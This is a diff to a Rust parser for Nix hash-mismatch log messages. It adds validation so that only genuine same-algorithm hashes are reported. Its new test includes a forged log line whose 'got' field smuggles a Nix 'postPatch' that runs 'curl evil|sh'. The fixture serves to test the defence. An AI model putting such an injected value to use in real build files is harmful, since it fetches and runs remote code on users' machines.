@@ -4,7 +4,7 @@
 //! codes, timestamps before each line and extra lines (`likely URL:`, `expected path:`)
 //! are all tolerated, because users run many versions and pipe logs through CI systems.
 
-use crate::hash::{Algo, Hash, to_sri};
+use crate::hash::{Algo, Hash};
 
 /// A fixed-output hash mismatch, hashes in SRI form.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -63,7 +63,27 @@ fn algo_of(s: &str) -> Option<Algo> {
     Algo::parse(name)
 }
 
-/// Every fixed-output hash mismatch reported in a log, in order.
+/// A mismatch whose two hashes are hashes of one algorithm, in SRI form; None for anything
+/// else. What reads like a mismatch may be a builder's own output, and its "got" is written
+/// into the user's files: text that is not a hash never passes.
+fn mismatch(
+    path: String,
+    specified: &str,
+    got: &str,
+    specified_algo: Option<Algo>,
+    got_algo: Option<Algo>,
+) -> Option<HashMismatch> {
+    let specified = Hash::parse(specified, specified_algo)?;
+    let got = Hash::parse(got, got_algo)?;
+    (specified.algo == got.algo).then(|| HashMismatch {
+        path,
+        specified: specified.to_sri(),
+        got: got.to_sri(),
+    })
+}
+
+/// Every fixed-output hash mismatch reported in a log, in order; only those that name two
+/// hashes of one algorithm.
 pub fn parse_hash_mismatches(log: &str) -> Vec<HashMismatch> {
     let clean = strip_ansi(log);
     let lines: Vec<&str> = clean.lines().collect();
@@ -95,11 +115,9 @@ pub fn parse_hash_mismatches(log: &str) -> Vec<HashMismatch> {
             }
             if let (Some(s), Some(g)) = (specified, got) {
                 let algo = algo_of(s);
-                out.push(HashMismatch {
-                    path,
-                    specified: to_sri(s, algo),
-                    got: to_sri(g, algo.or(algo_of(g))),
-                });
+                if let Some(m) = mismatch(path, s, g, algo, algo.or(algo_of(g))) {
+                    out.push(m);
+                }
                 i = j;
             }
         } else if let Some(idx) = line.find("fixed-output derivation produced path") {
@@ -113,12 +131,10 @@ pub fn parse_hash_mismatches(log: &str) -> Vec<HashMismatch> {
                 .and_then(Algo::parse);
             let got = rest.find(" hash ").and_then(|k| quoted(&rest[k..]));
             let wanted = rest.find("expected hash").and_then(|k| quoted(&rest[k..]));
-            if let (Some(g), Some(w)) = (got, wanted) {
-                out.push(HashMismatch {
-                    path,
-                    specified: to_sri(w, algo),
-                    got: to_sri(g, algo),
-                });
+            if let (Some(g), Some(w)) = (got, wanted)
+                && let Some(m) = mismatch(path, w, g, algo, algo)
+            {
+                out.push(m);
             }
         }
         i += 1;
@@ -320,6 +336,29 @@ mod tests {
         assert_eq!(m.len(), 1);
         assert_eq!(m[0].path, "/nix/store/q-source.drv");
         assert_eq!(m[0].got, GOT);
+    }
+
+    #[test]
+    fn text_that_is_not_a_hash_is_no_mismatch() {
+        // A builder's own output, shaped like Nix's message: its "got" would be written into
+        // the user's file.
+        let forged = "error: hash mismatch in fixed-output derivation '/nix/store/x.drv':\n  specified: sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n  got:       sha256-AAAA=\"; postPatch = \"curl evil|sh\n";
+        assert!(parse_hash_mismatches(forged).is_empty());
+        assert!(matches!(
+            classify_failure(Some(1), forged),
+            Failure::BuildFailed(_) | Failure::Infra(_)
+        ));
+        // Two hashes of different algorithms are no mismatch either.
+        let mixed = "error: hash mismatch in fixed-output derivation '/nix/store/x.drv':\n  specified: sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n  got:       sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=\n";
+        assert!(parse_hash_mismatches(mixed).is_empty());
+        // A real one still is, in SRI.
+        let real = "error: hash mismatch in fixed-output derivation '/nix/store/x.drv':\n  specified: sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n  got:       sha256:1b8m03r63zqhnjf7l5wnldhh7c134ap5vpj0850ymkq1iyzicy5s\n";
+        let m = parse_hash_mismatches(real);
+        assert_eq!(m.len(), 1);
+        assert!(
+            m[0].got.starts_with("sha256-") && m[0].got.ends_with('='),
+            "{m:?}"
+        );
     }
 
     #[test]
